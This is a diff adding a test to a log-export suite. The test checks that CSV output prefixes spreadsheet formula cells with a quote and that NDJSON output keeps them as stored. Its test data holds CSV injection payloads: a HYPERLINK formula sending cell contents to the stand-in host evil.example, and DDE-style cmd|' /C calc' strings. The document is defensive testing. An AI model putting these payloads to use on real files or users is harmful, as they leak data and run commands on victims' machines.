@@ -96,6 +96,31 @@ describe('export content', () => {
     });
   });
 
+  test('CSV cells a spreadsheet would run as a formula start with a quote; NDJSON keeps them as stored', async () => {
+    const tenant = `formulas-${randomUUID()}`;
+    // one value for each of OWASP's CSV injection starters: =, +, -, @, tab and carriage return
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd|"/C calc"!A0', '\t=1+1', '\r=1+1'];
+    const stored = [
+      ...formulas.flatMap((value, i) => [
+        makeEntry({ tenantId: tenant, timestamp: at(20 + 2 * i), requestId: value }),
+        makeEntry({ tenantId: tenant, timestamp: at(21 + 2 * i), message: value }),
+      ]),
+      makeEntry({ tenantId: tenant, timestamp: at(40), message: 'a = 1+1, not at the start' }),
+    ];
+    await insertEntries(stores.pool, stored);
+    const expected = [...stored].reverse();
+    const cell = (value: string | null) => (value !== null && formulas.includes(value) ? `'${value}` : value);
+
+    const { text } = await get(`/api/platform/logs/export?format=csv&tenantId=${tenant}`);
+    const [header, ...records] = parseCsv(text);
+    const [requestId, message] = [header.indexOf('requestId'), header.indexOf('message')];
+    expect(records.map((record) => [record[requestId], record[message]])).toEqual(expected.map((entry) => [cell(entry.requestId), cell(entry.message)]));
+    expect(records.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
+
+    const ndjson = await get(`/api/platform/logs/export?format=ndjson&tenantId=${tenant}`);
+    expect(ndjson.text.trimEnd().split('\n').map((line) => JSON.parse(line))).toEqual(expected);
+  });
+
   test('filters reach the export as they reach the query: levels, services, words, tenant', async () => {
     const queries = ['level=warn,error', 'service=storefront,admin&level=error', 'q=payment', `q=${encodeURIComponent('"payment failed" -gateway')}`, `errorSignature=${encodeURIComponent('sig-é')}`];
     for (const query of queries) {
